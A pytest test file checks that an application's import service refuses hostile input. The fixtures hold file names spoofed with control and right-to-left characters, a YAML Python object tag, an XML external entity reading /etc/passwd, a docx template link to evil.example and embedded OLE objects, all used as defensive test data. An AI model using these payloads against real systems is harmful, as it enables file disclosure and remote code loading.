"""What would stop or forge an import by its name, its line or its double: refused by itself, the rest is taken."""

import json
import os
import threading
from collections import Counter
from collections.abc import Sequence
from contextlib import nullcontext
from pathlib import Path

import pytest
from sqlalchemy.exc import OperationalError
from sqlmodel import col, select

from app.db import reading
from app.extraction.gate import check_archive
from app.extraction.result import Refused
from app.figures.models import Indicator
from app.importing import service
from app.importing.reading import Document, Raw, read
from app.importing.records import MaterialRecord
from app.importing.service import Fate, Line, Options
from app.importing.sources import Item, items_of
from app.library.files import FileStore
from app.library.models import File, Material
from app.state import Portal
from tests.figures.conftest import ROWS, csv_file
from tests.figures.conftest import lines as rows_of
from tests.importing.conftest import taken
from tests.importing.small_documents import WORDS, docx_file, html_file, txt_file, with_parts, write
from tests.importing.test_import import samband


def by_name(lines: list[Line]) -> dict[str, Line]:
    return {line.name: line for line in lines}


FORGED = {
    b"line\nbreak.txt": "line\\nbreak.txt",
    "rtl\u202etxt.exe.txt".encode(): "rtl\\u202etxt.exe.txt",
    b"red\x1b[31m.txt": "red\\x1b[31m.txt",
    b"bad\xff.txt": "bad\\udcff.txt",
}


@pytest.mark.skipif(os.name != "posix", reason="such names cannot be given elsewhere")
def test_f17_a_name_that_forges_is_refused_and_shown_as_it_is(
    stocked: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "in", "honest.txt", txt_file())
    for name in FORGED:
        (tmp_path / "in" / os.fsdecode(name)).write_bytes(name + b"\n\n" + txt_file())
    report = tmp_path / "report.json"
    code, said = samband(stocked, monkeypatch, "import", str(tmp_path / "in"), "--report", str(report))
    assert code == 1
    assert [shown for shown in FORGED.values() if f"in/{shown}: has a name with characters" not in said] == []
    told = {line["name"]: line["fate"] for line in json.loads(report.read_text())}
    assert told == {"in/honest.txt": "taken", **{f"in/{shown}": "refused" for shown in FORGED.values()}}


def test_the_same_file_in_two_names_is_taken_once(stocked: Portal, tmp_path: Path) -> None:
    for name in ("a.txt", "b.txt"):
        write(tmp_path / "in", name, txt_file())
    for options in (Options(is_dry_run=True), Options()):
        lines = by_name(taken(stocked, tmp_path / "in", options=options))
        assert (lines["in/a.txt"].fate, lines["in/b.txt"].fate) == (Fate.TAKEN, Fate.UNCHANGED)
        assert lines["in/b.txt"].material == lines["in/a.txt"].material
        assert lines["in/b.txt"].notes == ("is the same as in/a.txt",)


def test_the_same_bytes_of_two_kinds_are_two_files(stocked: Portal, tmp_path: Path) -> None:
    """What is refused under a wrong extension is taken under the right one, whichever comes first."""
    write(tmp_path / "in", "a.txt", html_file())
    write(tmp_path / "in", "b.html", html_file())
    lines = by_name(taken(stocked, tmp_path / "in"))
    assert "HTML page" in str(lines["in/a.txt"].reason)
    assert lines["in/b.html"].fate is Fate.TAKEN


def test_one_bad_line_among_a_thousand_is_refused_alone(stocked: Portal, tmp_path: Path) -> None:
    good = [json.dumps({"id": f"line-{n}", "title": f"Line {n}", "language": "fi"}) for n in range(60)]
    good[17] = '{"id": "broken'
    good[18] = '{"year": ' + "9" * 5_000 + "}"
    good[19] = '{"id": "\\ud800"}'
    good[20] = "[" * 100_000
    good[21] = json.dumps({"id": "nul", "title": "a\0b", "language": "fi"})
    path = write(tmp_path, "lines.jsonl", "\n".join(good).encode())
    lines = taken(stocked, path)
    assert Counter(line.fate for line in lines) == {Fate.TAKEN: 55, Fate.REFUSED: 5}
    assert by_name(lines)["lines.jsonl: record 18"].reason == "line 18 is not JSON"
    assert "NUL" in str(by_name(lines)["lines.jsonl: nul"].reason)


def test_a_line_of_jsonl_ends_at_a_line_feed_only(stocked: Portal, tmp_path: Path) -> None:
    """Inside a string these characters stand as they are, and an export writes them so."""
    record = {"id": "one", "title": "One", "language": "fi", "abstract": "a\u2028b\u0085c\u2029d"}
    text = json.dumps(record, ensure_ascii=False)
    assert len(text.splitlines()) > 1
    (line,) = taken(stocked, write(tmp_path, "one.jsonl", text.encode()))
    assert (line.fate, line.material) == (Fate.TAKEN, "one")


BAD_YAML = {
    "date": (b"review_by: 2021-13-45\n", "date or number that is none"),
    "number": (b"year: !!int x\n", "date or number that is none"),
    "truth": (b"title: !!bool maybe\n", "date or number that is none"),
    "object": (b"title: !!python/object/apply:os.getcwd []\n", "is not YAML"),
    "deep": (b"title: " + b"[" * 60 + b"]" * 60, "nests its fields"),
    "deeper": (b"title: " + b"[" * 5_000 + b"]" * 5_000, "is not YAML"),
    "key": (b"{[a]: b}\n", "is not YAML"),
}


def test_bad_yaml_stops_nothing_but_itself(stocked: Portal, tmp_path: Path) -> None:
    for name, (body, _) in BAD_YAML.items():
        write(tmp_path / "in", f"{name}.yaml", body)
    write(tmp_path / "in", "other.txt", txt_file())
    lines = by_name(taken(stocked, tmp_path / "in"))
    assert [n for n, (_, reason) in BAD_YAML.items() if reason not in str(lines[f"in/{n}.yaml"].reason)] == []
    assert lines["in/other.txt"].fate is Fate.TAKEN


def test_a_folder_that_changes_meanwhile(stocked: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files that go between the look and the reading are refused by name; those that come wait for the next call."""
    for name in ("a.txt", "b.txt", "c.txt"):
        write(tmp_path / "in", name, name.encode() + b"\n\n" + txt_file())
    write(tmp_path / "in", "gone.yaml", b"id: gone\ntitle: Gone\nlanguage: fi\n")

    def then_changed(paths: Sequence[Path], flags: MaterialRecord) -> list[Item]:
        items = items_of(paths, flags)
        (tmp_path / "in" / "b.txt").unlink()
        (tmp_path / "in" / "c.txt").unlink()
        (tmp_path / "in" / "c.txt").mkdir()
        return items

    monkeypatch.setattr(service, "items_of", then_changed)
    lines = by_name(taken(stocked, tmp_path / "in"))
    assert lines["in/a.txt"].fate is Fate.TAKEN
    assert "cannot be opened" in str(lines["in/b.txt"].reason)
    assert lines["in/c.txt"].reason == "is no ordinary file"
    assert lines["in/gone.yaml: gone"].fate is Fate.TAKEN


ENTITY = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
OUTSIDE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "content", "reason"),
    [
        ("word/embeddings/oleObject1.bin", b"MZ", "embedded files"),
        ("word/e.xml", ENTITY.encode("utf-16"), "XML entities"),
        ("word/e.xml", b"<!--" + b" " * 65_500 + b"--><!DOCTYPE a []><a/>", "document type"),
        ("word/_rels/settings.xml.rels", OUTSIDE % b"attachedTemplate", "from outside"),
        ("word/_rels/footer9.xml.rels", OUTSIDE % b"hyperlink", None),
    ],
)
def test_f17_office_documents_bring_nothing_along(part: str, content: bytes, reason: str | None) -> None:
    with pytest.raises(Refused, match=reason) if reason else nullcontext():
        check_archive(with_parts(docx_file(), (part, content)), "docx")


@pytest.mark.fault
@pytest.mark.parametrize(
    "failure",
    [OSError(28, "No space left on device"), OperationalError("INSERT", {}, Exception("database or disk is full"))],
    ids=["file", "database"],
)
def test_f05_a_full_disk_is_said_and_what_was_taken_is_kept(
    failure: Exception, stocked: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("a.txt", "b.txt"):
        write(tmp_path / "in", name, name.encode() + b"\n\n" + txt_file())
    kept = service._keep

    def full(store: FileStore, document: Document) -> None:
        if document.raw.name == "b.txt":
            raise failure
        kept(store, document)

    report = tmp_path / "report.json"
    with monkeypatch.context() as patched:
        patched.setattr(service, "_keep", full)
        code, said = samband(stocked, patched, "import", str(tmp_path / "in"), "--report", str(report))
    assert code == 1
    assert "What was taken is kept; the same command goes on from there." in said
    assert "Traceback" not in said
    assert [(line["name"], line["fate"]) for line in json.loads(report.read_text())] == [("in/a.txt", "taken")]
    assert Counter(line.fate for line in taken(stocked, tmp_path / "in")) == {Fate.TAKEN: 1, Fate.UNCHANGED: 1}


def test_a_report_that_cannot_be_written_is_said_before_the_work(
    stocked: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(tmp_path, "round.txt", txt_file())
    code, said = samband(stocked, monkeypatch, "import", str(path), "--report", str(tmp_path / "no" / "report.json"))
    assert (code, "cannot be written" in said) == (2, True)
    with reading(stocked.database) as session:
        assert session.exec(select(File.name).where(File.name == "round.txt")).first() is None


def test_g14_a_table_of_figures_is_taken_by_import_too(stocked: Portal, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    write(folder, "round.txt", txt_file())
    csv_file(folder, rows_of(*ROWS))
    csv_file(folder, "name,born\nSomebody,1990-01-01\n", "persons.csv")
    write(folder, "years.csv", b"year,counted\n2021,27\n2022,43\n")
    write(
        folder,
        "years.yaml",
        b"id: fi-years\ncountry: FI\nunit: persons\ntitle: {en: Counted}\ndefinition: {en: Persons counted.}\n"
        b"caveat: {en: One office only.}\nsources: [{publisher: Office, title: Yearbook}]\n"
        b"series: [{code: total, label: {en: Total}}]\ncolumns: {counted: total}\n",
    )
    rehearsed = by_name(taken(stocked, folder, options=Options(is_dry_run=True)))
    lines = by_name(taken(stocked, folder))
    assert lines == rehearsed
    assert lines["in/figures.csv"].notes == ("figures new: fi-test",)
    assert lines["in/years.csv"].reason is None
    assert lines["in/persons.csv"].fate is Fate.REFUSED
    assert lines["in/round.txt"].fate is Fate.TAKEN
    assert set(lines) == {"in/figures.csv", "in/persons.csv", "in/years.csv", "in/round.txt"}
    with reading(stocked.database) as session:
        assert session.get(Indicator, "fi-test") is not None
    again = by_name(taken(stocked, folder))
    assert again["in/figures.csv"].fate is Fate.UNCHANGED


def test_g14_indicators_in_yaml_are_told_from_materials(stocked: Portal) -> None:
    (line,) = taken(stocked, Path(service.__file__).parents[2] / "seed_data" / "indicators.yaml")
    assert line.fate is Fate.UNCHANGED
    assert sum(note.startswith("flagged: no-possible-victims") for note in line.notes) >= 4


def test_an_import_that_is_stopped_starts_no_further_reading(
    stocked: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ctrl-C comes while the first of many is written: what waited for its turn is not read any more."""
    for number in range(12):
        write(tmp_path / "in", f"{number:02}.txt", f"Number {number}\n\n{WORDS}".encode())
    names: list[str] = []
    is_stopped = threading.Event()

    def counted(raw: Raw) -> Document:
        names.append(raw.name)
        if len(names) > 1:
            is_stopped.wait(5)
        return read(raw)

    def stopped(*_: object) -> Line:
        threading.Timer(0.2, is_stopped.set).start()
        raise KeyboardInterrupt

    monkeypatch.setattr(service, "read", counted)
    monkeypatch.setattr(service, "_take", stopped)
    with pytest.raises(KeyboardInterrupt):
        taken(stocked, tmp_path / "in")
    assert len(names) < 12
    with reading(stocked.database) as session:
        assert session.exec(select(Material.id).where(col(Material.id).startswith("number-"))).first() is None
